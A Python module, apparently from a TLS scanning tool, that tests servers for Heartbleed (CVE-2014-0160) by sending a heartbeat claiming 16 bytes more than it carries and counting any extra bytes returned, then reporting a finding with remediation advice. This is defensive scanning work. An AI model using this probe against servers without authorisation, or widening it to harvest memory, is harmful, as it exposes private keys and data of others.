"""Does a heartbeat that is shorter than it says give away memory (CVE-2014-0160)?

After a complete handshake: a request that claims sixteen bytes more than it has, then an honest one. RFC 6520 section 4
has the first discarded without a word and the second answered. What comes back is counted, not kept.
Must not import ``report`` or ``cli``.
"""

from __future__ import annotations

from functools import partial
from typing import TYPE_CHECKING, Any

from tlswire.hello.edit import with_extension
from tlswire.registry import VERSIONS
from tlswire.results.answers.heartbleed import Heartbleed
from tlswire.results.scan import Finding
from tlswire.scan.attacks import Deviating, older
from tlswire.scan.proof import proof_of
from tlswire.wire.extensions import encode_extension
from tlswire.wire.records import HEARTBEAT, Message

if TYPE_CHECKING:
    from collections.abc import Iterator

    from tlswire.scan.server import Server

HEARTBEAT_EXTENSION = 15
_MAY_SEND = 1  # peer_allowed_to_send
_REQUEST, _RESPONSE = 1, 2
# What is asked for beyond what is sent: as much as it takes to see it.
BEYOND = 16
_LYING, _HONEST = b"tlswire asks lie", b"tlswire asks now"
_PADDING = bytes(16)


class Beating(Deviating):
    """Sends both heartbeats; ``answers`` takes the sizes of the payloads that come back, by what they begin with."""

    def __init__(self, answers: dict[bytes, int], *arguments: Any, **options: Any) -> None:
        super().__init__(*arguments, **options)
        self.answers = answers
        answers.clear()

    def established(self) -> None:
        """Both requests, where heartbeats were agreed on."""
        if self.shown.answered(HEARTBEAT_EXTENSION) is None:
            self.end()
            self.done = True
            return
        # Without padding: what comes back beyond the payload is none of ours.
        self.send(HEARTBEAT, _request(_LYING, len(_LYING) + BEYOND))
        self.send(HEARTBEAT, _request(_HONEST, len(_HONEST)) + _PADDING)
        self.wait()

    def heard(self, message: Message) -> None:
        """Count what came; the answer to the honest request is the last."""
        body = message.body
        if message.content != HEARTBEAT or body[:1] != bytes((_RESPONSE,)):
            return
        size = int.from_bytes(body[1:3], "big")
        for payload in (_LYING, _HONEST):
            if body[3:].startswith(payload):
                self.answers[payload] = min(size, len(body) - 3)
        if _HONEST in self.answers:
            self.end()
            self.done = True


def _request(payload: bytes, claimed: int) -> bytes:
    return bytes((_REQUEST,)) + claimed.to_bytes(2, "big") + payload


async def ask(server: Server) -> Heartbleed:
    """One handshake under the newest version below TLS 1.3."""
    version = older(server)
    if version is None:
        return Heartbleed(state="not-applicable", notes=["no version below TLS 1.3 was accepted"])
    name = VERSIONS[version].name
    suites = server.completed(version)
    hello = server.hello(version, suites)
    if not suites or hello.extensions is None:
        return Heartbleed(state="not-applicable", notes=[f"{name}: no handshake with heartbeats can be completed"])
    hello = with_extension(hello, HEARTBEAT_EXTENSION, encode_extension(HEARTBEAT_EXTENSION, _MAY_SEND, "ch"))
    answers: dict[bytes, int] = {}
    shown = await server.handshake(hello, client=partial(Beating, answers), unhurried=True)
    agreed = shown.answered(HEARTBEAT_EXTENSION) is not None
    if shown.accepts and not agreed:
        return Heartbleed(version=name, vulnerable=False, proof=proof_of(shown))
    if not shown.finished:
        note = f"{name}: the handshake was not completed ({shown.label}{f': {shown.reason}' if shown.reason else ''})"
        return Heartbleed(state="incomplete", version=name, heartbeats=agreed, notes=[note])
    leaked = max(0, answers.get(_LYING, 0) - len(_LYING))
    return Heartbleed(
        version=name,
        vulnerable=leaked > 0,
        heartbeats=True,
        asked=BEYOND,
        leaked=leaked,
        alive=_HONEST in answers,
        proof=proof_of(shown),
    )


def findings(answer: Heartbleed) -> Iterator[Finding]:
    """Memory that came back."""
    if answer.vulnerable:
        yield Finding(
            "heartbleed",
            "weak",
            f"Heartbleed: gives away memory for short heartbeats ({answer.leaked} bytes of {answer.asked} asked for)",
            "CVE-2014-0160, RFC 6520 4",
            answer.version,
            cve=["CVE-2014-0160"],
            remedy="update the TLS library, then replace keys and certificates: they must count as known",
        )
